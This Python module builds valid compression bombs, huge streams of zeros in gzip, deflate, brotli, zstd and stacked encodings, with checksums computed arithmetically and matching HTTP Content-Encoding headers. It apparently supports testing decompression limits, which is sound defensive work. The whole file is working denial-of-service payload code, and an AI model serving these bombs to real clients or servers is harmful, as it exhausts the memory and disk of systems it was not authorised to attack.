"""Compression bombs: valid streams of zeros in each Content-Encoding, built in milliseconds.

Compressing gigabytes of zeros would take seconds to minutes, so each stream is assembled
from one repeated unit: deflate blocks ended by a full flush (which resets the window, so
the unit decodes the same anywhere), brotli's compressor fed the same MiB, zstd RLE blocks
(128 KiB each from 4 bytes). Checksums of the zeros (gzip's CRC-32, zlib's Adler-32) are
computed, not run over the data, so every bomb is a well-formed stream to its end.
"""

from __future__ import annotations

import functools
import struct
import zlib

import brotli

MIB = 1024 * 1024
ENCODINGS = ("gzip", "deflate", "deflate-raw", "br", "zstd", "gzip, br")
_ZSTD_BLOCK = 128 * 1024


def content_encoding(kind: str) -> str:
    """The Content-Encoding header for a bomb kind (deflate-raw is sent as deflate)."""
    return "deflate" if kind == "deflate-raw" else kind


@functools.cache
def bomb(kind: str, decoded_bytes: int) -> bytes:
    """A `kind` stream (one of ENCODINGS) of `decoded_bytes` zeros, rounded down to whole MiB."""
    mibs = max(1, decoded_bytes // MIB)
    if kind == "gzip":
        header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
        trailer = struct.pack("<II", crc32_of_zeros(mibs * MIB), (mibs * MIB) & 0xFFFFFFFF)
        return header + _raw_deflate_zeros(mibs) + trailer
    if kind == "deflate":
        adler = ((mibs * MIB) % 65521) << 16 | 1  # a = 1 + 0s, b = n * a
        return b"\x78\xda" + _raw_deflate_zeros(mibs) + struct.pack(">I", adler)
    if kind == "deflate-raw":
        return _raw_deflate_zeros(mibs)
    if kind == "br":
        compressor = brotli.Compressor(quality=1)
        zeros = bytes(MIB)
        return b"".join([compressor.process(zeros) for _ in range(mibs)] + [compressor.finish()])
    if kind == "zstd":
        return _zstd_zeros(mibs * MIB)
    if kind == "gzip, br":  # gzip applied first, then br
        return brotli.compress(bomb("gzip", decoded_bytes), quality=5)
    raise ValueError(f"unknown bomb kind {kind!r}; one of {', '.join(ENCODINGS)}")


@functools.cache
def _raw_deflate_unit() -> tuple[bytes, bytes]:
    """(a MiB of zeros as raw deflate ending in a full flush, the final empty block)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    unit = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return unit, compressor.flush()


def _raw_deflate_zeros(mibs: int) -> bytes:
    unit, final = _raw_deflate_unit()
    return unit * mibs + final


def _zstd_zeros(size: int) -> bytes:
    """One zstd frame of RLE blocks: magic, no content size, a 128 KiB window."""
    blocks, rest = divmod(size, _ZSTD_BLOCK)
    sizes = [_ZSTD_BLOCK] * blocks + ([rest] if rest else [])
    out = bytearray(b"\x28\xb5\x2f\xfd" + b"\x00" + bytes([7 << 3]))  # window log 10 + 7
    for number, count in enumerate(sizes):
        last = number == len(sizes) - 1
        header = count << 3 | 1 << 1 | last  # Block_Size, Block_Type 1 (RLE), Last_Block
        out += header.to_bytes(3, "little") + b"\x00"
    return bytes(out)


def crc32_of_zeros(size: int) -> int:
    """zlib.crc32(bytes(size)) without reading `size` bytes: the map "append a MiB of
    zeros" is linear on the CRC register, so each MiB is one 32x32 bit-matrix step."""
    mibs, rest = divmod(size, MIB)
    crc = 0
    columns = _append_mib_columns()
    constant = zlib.crc32(bytes(MIB))
    for _ in range(mibs):  # crc' = shift(crc) ^ crc32(zeros): a 32x32 bit-matrix each MiB
        shifted = 0
        bit = 0
        value = crc
        while value:
            if value & 1:
                shifted ^= columns[bit]
            value >>= 1
            bit += 1
        crc = shifted ^ constant
    return zlib.crc32(bytes(rest), crc)


@functools.cache
def _append_mib_columns() -> tuple[int, ...]:
    """Column k: how bit k of a CRC register moves when a MiB of zeros is appended."""
    zeros = bytes(MIB)
    base = zlib.crc32(zeros, 0)
    return tuple(zlib.crc32(zeros, 1 << k) ^ base for k in range(32))
